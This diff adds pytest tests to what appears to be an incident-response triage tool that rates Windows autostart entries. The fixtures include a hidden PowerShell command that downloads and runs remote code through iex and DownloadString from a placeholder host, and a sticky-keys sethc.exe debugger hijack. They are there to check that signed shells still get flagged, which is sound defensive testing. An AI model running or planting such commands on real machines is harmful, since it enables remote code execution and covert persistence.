@@ -3,10 +3,14 @@
 import pytest
 
 from responder.analysis import autostart_signs, launch_signs
+from responder.analysis.engine import analyse
 from responder.case.triage import TriageRequest, triage
 from responder.model.finding import Severity
 from responder.model.host import FactRecord
-from tests.responder.analysis.conftest import autostart, ref
+from responder.model.autostart import AutostartRecord
+from tests.responder.analysis.conftest import WINDOWS_10, autostart, ref
+
+RUN_KEY = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
 
 
 @pytest.fixture
@@ -145,3 +149,49 @@ def test_persistence_of_the_synthetic_hive_and_the_attacked_host(look):
     assert found == {"WindowsUpdateCheck", "Encoded", "!cleanup", "sethc.exe", "AppInit_DLLs", "Shell", "Userinit"}
     tasks = look("hosts/WIN-FUDU2CKJOE8_APTSimulator/C/Windows/System32/Tasks").findings
     assert {f.facts["entry"] for f in tasks if f.severity >= Severity.HIGH} == {"\\GameOver", "\\falshupdate22"}
+
+
+def verdicts(lab, **fields):
+    entry = AutostartRecord(source=ref("start", 1), **{"category": "Logon", "location": RUN_KEY, "entry": "x", **fields})
+    index = lab.index({"start": [entry]}, (WINDOWS_10,))
+    result, rows = analyse(index)
+    found = [f.severity for f in result.findings if f.rule_id == "autostart.suspect"]
+    return *next(iter(rows["autostarts"].values()), ("", "")), found
+
+
+POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+
+
+def test_the_signature_of_a_shell_does_not_vouch_for_what_it_runs(lab):
+    command = POWERSHELL + " -w hidden -c iex((New-Object Net.WebClient).DownloadString('http://a/b'))"
+    verdict, reason, found = verdicts(
+        lab, command=command, process_path=POWERSHELL, signer="Microsoft Windows", sha256="0" * 64
+    )
+    assert verdict == "unknown"
+    assert "hidden window" in reason
+    assert found == [Severity.HIGH]
+
+
+def test_sticky_keys_stay_grave_though_the_shell_is_signed(lab):
+    place = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe"
+    verdict, _, found = verdicts(
+        lab, category="Image Hijacks", location=place, entry="sethc.exe", command="cmd.exe",
+        process_path=r"C:\Windows\System32\cmd.exe", signer="Microsoft Windows",
+    )  # fmt: skip
+    assert (verdict, found) == ("unknown", [Severity.HIGH])
+
+
+def test_an_ordinary_signed_entry_is_known(lab):
+    path = r"C:\Program Files\Vendor\agent.exe"
+    assert verdicts(lab, command=path, process_path=path, signer="Vendor Ltd") == (
+        "known", "its signature is valid: Vendor Ltd", [],
+    )  # fmt: skip
+
+
+def test_a_hidden_task_stays_hidden_whatever_its_program_is(lab):
+    path = r"C:\Program Files\Vendor\agent.exe"
+    verdict, _, found = verdicts(
+        lab, category="Scheduled Tasks", command=path, process_path=path, signer="Vendor Ltd", verdict="hidden"
+    )
+    assert verdict == ""  # the word of the reader of the task cache is left as it is
+    assert found == [Severity.HIGH]
